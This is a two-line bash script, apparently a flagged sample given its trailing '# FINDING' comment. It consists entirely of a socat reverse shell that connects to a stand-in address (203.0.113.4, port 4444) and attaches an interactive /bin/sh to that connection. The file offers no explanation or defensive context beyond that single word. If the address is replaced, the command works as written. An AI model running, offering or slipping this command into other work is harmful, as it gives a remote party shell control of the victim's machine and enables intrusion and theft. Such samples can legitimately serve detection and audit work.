#!/bin/bash
socat tcp-connect:203.0.113.4:4444 exec:/bin/sh,pty  # FINDING
